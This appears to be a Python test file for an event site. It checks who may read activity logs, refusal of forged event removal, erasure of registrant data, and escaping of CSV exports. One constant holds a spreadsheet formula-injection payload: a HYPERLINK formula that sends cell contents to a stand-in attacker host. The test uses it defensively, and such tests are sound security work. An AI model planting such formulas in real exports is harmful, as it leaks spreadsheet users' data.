"""The activity log and event removal, attacked over HTTP: who may read the log (it names registrants),
who may remove an event, what an erased person leaves behind, and formulas smuggled into its CSV."""
import csv
import io

from sqlalchemy import select

from eventsite.accounts.models import Role
from eventsite.events.models import Event
from eventsite.extensions import db
from eventsite.registrations import services as registrations
from eventsite.registrations.models import Mode
from tests.conftest import login
from tests.factories import add_member, make_staff, make_user
from tests.registrations.helpers import open_event, register

HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click")'


def _logged_event():
    organiser, event = open_event(mode=Mode.APPROVAL)
    registration = register(event, make_user(name="Amina Haddad", email="amina.haddad@example.org"))
    registrations.decide([registration], True, user=organiser)
    db.session.commit()
    return organiser, event, registration


def test_the_log_names_registrants_so_only_the_events_organisers_and_staff_may_read_it(client, ctx):
    organiser, event, _ = _logged_event()
    rapporteur, stranger = make_user(), make_user()
    add_member(event, rapporteur, Role.RAPPORTEUR)
    db.session.commit()
    for user in (rapporteur, stranger):
        login(client, user.email)
        for url in (f"/events/{event.slug}/activity", f"/events/{event.slug}/activity.csv",
                    f"/forums/{event.forum.slug}/activity", f"/forums/{event.forum.slug}/activity.csv"):
            response = client.get(url)
            assert response.status_code == 403 and b"amina.haddad" not in response.data, url
        client.post("/account/logout")


def test_a_forged_removal_by_the_events_own_organiser_is_refused(client, ctx):
    organiser, event, _ = _logged_event()
    login(client, organiser.email)
    assert client.post(f"/events/{event.slug}/delete", data={"reason": "gone"}).status_code == 403
    db.session.expire_all()
    assert db.session.scalar(select(Event).where(Event.slug == event.slug)) is not None


def test_an_erased_registrant_cannot_be_read_back_from_the_log(client, ctx):
    organiser, event, registration = _logged_event()
    registrations.erase(registration)
    db.session.commit()
    login(client, make_staff().email)
    for url in (f"/events/{event.slug}/activity.csv", f"/forums/{event.forum.slug}/activity.csv",
                f"/events/{event.slug}/activity?kind=registration.approved"):
        assert b"amina" not in client.get(url).data.lower(), url


def test_a_formula_in_a_logged_title_stays_text_in_the_csv(client, ctx):
    organiser, event, _ = _logged_event()
    event.title = HYPERLINK  # the log keeps the title an organiser typed
    registrations.check_in(registration := registrations.existing_registration(event, "amina.haddad@example.org"),
                           user=organiser)
    db.session.commit()
    login(client, organiser.email)
    rows = list(csv.reader(io.StringIO(client.get(f"/events/{event.slug}/activity.csv").data.decode("utf-8-sig"))))
    titles = {row[1] for row in rows[1:]}
    assert "'" + HYPERLINK in titles and HYPERLINK not in titles and registration
